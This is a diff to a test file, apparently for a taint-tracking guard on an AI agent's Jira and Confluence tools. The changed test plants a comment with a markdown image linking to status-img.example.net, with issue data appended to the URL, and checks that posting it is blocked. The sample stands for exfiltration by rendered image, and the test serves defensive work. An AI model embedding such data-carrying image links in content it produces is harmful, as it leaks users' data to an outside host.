@@ -103,8 +103,10 @@ async def test_a_planted_image_is_not_posted_and_plain_text_is(harness: Harness,
         issue = await client.call_tool("jira_get_issue", {"issue_key": "ENG-1"})
         assert "status-img.example.net" in text_of(issue), text_of(issue)
 
-        # a page comment is stored in the workspace (no Rule-of-Two leg), but rendered
-        planted = "Looking into it. ![status](https://status-img.example.net/s.png)"
+        # a page comment is stored in the workspace (no Rule-of-Two leg), but rendered; the
+        # planted image with data appended (one copied whole, as the issue showed it, carries
+        # nothing the issue did not hold: cordon.taint._verbatim)
+        planted = "Looking into it. ![status](https://status-img.example.net/s.png?d=ENG-1)"
         r = await client.call_tool("confluence_add_comment", {"page_id": "123", "body": planted})
         assert r.is_error and "taint.rendered_resource" in text_of(r), text_of(r)
 
